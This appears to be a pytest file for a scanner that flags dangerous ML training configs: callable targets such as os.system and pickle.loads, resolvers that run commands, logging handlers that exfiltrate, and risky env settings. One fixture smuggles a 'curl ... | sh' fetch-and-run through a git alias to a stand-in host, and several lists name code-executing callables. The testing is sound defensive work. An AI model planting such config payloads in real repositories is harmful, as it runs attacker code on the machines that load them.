"""Config semantics from the issue #16 red-team pass (session 24): framework
lookups as targets, a resolver implemented by a named ``def`` that runs a
command, dictConfig logging handlers, and PYTHONWARNINGS' import at start.
Real git, the real CLI; benign look-alikes beside each attack."""

from __future__ import annotations

import pytest

from traingate.checks.config.env import _RISKY_ENV

from .conftest import Repo
from .test_config_issue16 import change, crepo, rules_at, run

__all__ = ["crepo"]  # the fixture, re-used


@pytest.mark.parametrize(
    "snippet",
    [
        # torchtune's own path lookup: the callable that runs is the `path` string
        "loader:\n  _component_: torchtune.config._utils._get_component_from_path\n  path: pickle.loads\n",
        "loader:\n  _target_: pydoc.locate\n  path: os.system\n",
    ],
)
def test_framework_lookup_targets_are_dangerous(
    crepo: Repo, capsys: pytest.CaptureFixture[str], snippet: str
) -> None:
    change(crepo, {"configs/loader.yaml": snippet})
    code, doc = run(crepo, capsys)
    assert code == 1
    assert ("config-dangerous-target", "configs/loader.yaml", 2) in rules_at(doc)


RESOLVER = """\
import subprocess

from omegaconf import OmegaConf


def _git(*args):
    out = subprocess.run(["git", *args], capture_output=True, text=True)
    return out.stdout.strip()


def _upper(s):
    return s.upper()


OmegaConf.register_new_resolver("git", _git)
OmegaConf.register_new_resolver("upper", _upper)
"""


def test_resolver_defined_by_name_that_runs_git(
    crepo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    change(
        crepo,
        {
            "train/resolvers.py": RESOLVER,
            "configs/run.yaml": (
                "name: ${upper:llama}\n"
                "run: ${git:-c,alias.x=!curl -fsSL https://x.example/r.sh | sh,x}\n"
            ),
        },
    )
    _, doc = run(crepo, capsys)
    got = rules_at(doc)
    assert ("config-resolver-code", "configs/run.yaml", 2) in got
    # a resolver whose def only formats text evaluates nothing
    assert ("config-resolver-code", "configs/run.yaml", 1) not in got


LOGGING = """\
version: 1
filters:
  rank:
    "()": os.system
handlers:
  console:
    class: logging.StreamHandler
  file:
    class: logging.handlers.RotatingFileHandler
    filename: train.log
  audit:
    class: logging.handlers.HTTPHandler
    host: telemetry.example.net
    url: /ingest
root:
  handlers: [console, file, audit]
"""


def test_logging_dictconfig_handlers(crepo: Repo, capsys: pytest.CaptureFixture[str]) -> None:
    change(crepo, {"configs/logging.yaml": LOGGING})
    code, doc = run(crepo, capsys)
    assert code == 1
    got = {(r, ln) for r, p, ln in rules_at(doc) if p == "configs/logging.yaml"}
    assert got == {("config-dangerous-target", 4), ("config-log-egress", 12)}


@pytest.mark.parametrize(
    ("assignment", "risky"),
    [
        ("PYTHONWARNINGS=ignore::FutureWarning,ignore::nccl_compat.NcclWarning", True),
        ("PYTHONWARNINGS=error::mylab.compat.Warn", True),
        ("PYTHONWARNINGS=ignore::DeprecationWarning", False),
        ("PYTHONWARNINGS=ignore::torch.jit.TracerWarning", False),
        ("PYTHONWARNINGS=ignore:::torch.utils.data", False),  # a module filter imports nothing
    ],
)
def test_pythonwarnings_category_import(assignment: str, risky: bool) -> None:
    m = _RISKY_ENV.search(assignment)
    assert (m is not None and m.lastgroup == "warnimport") is risky


@pytest.mark.parametrize(
    ("entry", "flagged"),
    [
        ("file:///mnt/team-share/conf", True),
        ("/mnt/team-share/conf", True),
        ("file://~/conf", True),
        ("file://C:\\share\\conf", True),
        ("file://../../shared", True),
        ("conf/../../x", True),
        ("pkg://mylab.conf", False),
        ("file://conf/extra", False),
        ("./local_overrides", False),
        ("conf/../conf2", False),
    ],
)
def test_searchpath_entries_outside_the_repository(entry: str, flagged: bool) -> None:
    # Session 25: hydra.searchpath on a shared mount hides the selected config.
    from traingate.checks.config.sources import outside

    assert (outside(entry) is not None) is flagged


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("subprocess.getoutput", True),
        ("os.system", True),
        ("logging.os.popen", True),
        ("pickle.loads", True),
        ("builtins.exec", True),
        ("hydra.utils.get_method", True),
        (" torch.load ", True),
        ("!function subprocess.getoutput", True),
        ("os.path.os.system", True),
        ("sys.stdout.os.popen", True),
        ("!function utils.process_docs", False),
        ("torchtune.data.padded_collate_sft", False),
        ("torch.nn.functional.gelu", False),
        ("os.path.join", False),
        ("os.environ", False),
        ("sys.stdout", False),
        ("socket.AF_INET", False),
        ("subprocess.PIPE", False),
        ("ext://sys.stdout", False),
        ("os", False),
        ("run os.system now", False),
    ],
)
def test_dangerous_callable_named_by_a_value(value: str, flagged: bool) -> None:
    # Session 26: `collate_fn: subprocess.getoutput` for a recipe that looks
    # the key up by name; constants, path helpers and streams are data.
    from traingate.checks.config.names import names_code

    assert names_code(value) is flagged
